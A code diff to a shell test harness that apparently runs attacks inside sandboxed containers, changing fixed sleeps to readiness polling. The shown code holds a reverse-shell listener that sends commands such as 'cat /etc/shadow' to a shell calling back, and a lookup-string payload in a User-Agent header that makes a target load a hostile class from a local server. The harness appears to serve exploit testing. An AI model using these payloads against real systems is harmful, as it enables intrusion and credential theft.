@@ -51,20 +51,24 @@ deface() {
 
 with_listener() { # CONTAINER: a shell calls it back by the command CALL_HOME
     local listener status
-    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n python3 - <<'EOF' &
-import socket, time
+    rm -f "$BOX_DIR/listens"
+    nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n python3 - "$BOX_DIR/listens" <<'EOF' &
+import pathlib, socket, sys, time
 server = socket.create_server(("127.0.0.1", 4444))
+pathlib.Path(sys.argv[1]).touch()
 server.settimeout(10)
 peer = server.accept()[0]
 peer.settimeout(2)
 for command in ("id", "cat /etc/shadow", "ls -la /var/www", "exit"):
     peer.sendall(command.encode() + b"\n")
     time.sleep(.3)
-answer = peer.recv(65536)
+answer = b""
+while more := peer.recv(65536):
+    answer += more
 raise SystemExit(b"uid=" not in answer)
 EOF
     listener=$!
-    sleep 1
+    for _ in $(seq 100); do [ ! -e "$BOX_DIR/listens" ] || break; sleep 0.1; done
     "${CALL_HOME[@]}"
     wait "$listener"
     status=$?
@@ -177,9 +181,9 @@ java_load() { # CONTAINER CLASS FILE: FILE shows that it ran
     local listener
     nsenter -t "$(cat "$BOX_DIR/$1.nspid")" -n python3 -m http.server -d "$BOX_DIR/hostile" -b 127.0.0.1 8000 &
     listener=$!
-    sleep 1
+    for _ in $(seq 100); do web_ask "$1" http://127.0.0.1:8000/ && break; sleep 0.1; done
     web_ask "$1" -A "\${load:http://127.0.0.1:8000/ $2}" http://127.0.0.1:8080/
-    sleep 2
+    for _ in $(seq 50); do [ ! -e "$(box_path "$1")$3" ] || break; sleep 0.1; done
     kill "$listener"
     wait "$listener"
     [ -e "$(box_path "$1")$3" ]
